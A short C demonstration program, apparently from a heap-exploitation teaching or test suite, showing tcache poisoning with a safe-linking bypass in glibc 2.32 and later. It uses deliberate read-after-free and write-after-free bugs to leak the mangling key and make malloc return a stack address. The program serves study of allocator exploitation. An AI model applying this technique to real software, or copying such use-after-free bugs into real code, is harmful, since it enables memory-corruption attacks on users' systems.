/* Tcache poisoning with a safe-linking bypass (glibc >= 2.32).
 * Published: shellphish/how2heap, glibc_2.36/tcache_poisoning.c; the heap leak that defeats
 * safe-linking: Check Point Research, "Safe-Linking: Eliminating a 20 year-old malloc()
 * exploit primitive" (2020).
 * Primitive: use after free. A dangling READ of a freed chunk leaks the mangling key
 * ((&next >> 12) ^ NULL), a dangling WRITE of another freed chunk's tcache next pointer makes
 * malloc return an attacker-chosen (stack) address. */
#include <stdint.h>
#include "common.h"

int main(void) {
    test_init();
    printf("tcache poisoning: leak the safe-linking key, then redirect malloc\n");
    uint64_t target[4] __attribute__((aligned(16))) = {0};
    uint64_t *a = malloc(128), *b = malloc(128);
    print_ptr("victim", a);
    free(a);
    uint64_t key = a[0]; /* BUG: read after free (the heap leak) */
    free(b);
    b[0] = key ^ (uint64_t)(uintptr_t)target; /* BUG: write after free: b->next = target */
    void *first = malloc(128);
    uint64_t *c = malloc(128);
    print_ptr("returned", c);
    if (c == target)
        printf("ATTACK SUCCEEDED: malloc returned the attacker's address\n");
    else
        printf("attack failed: malloc returned a fresh object (%p)\n", first);
    return 0;
}
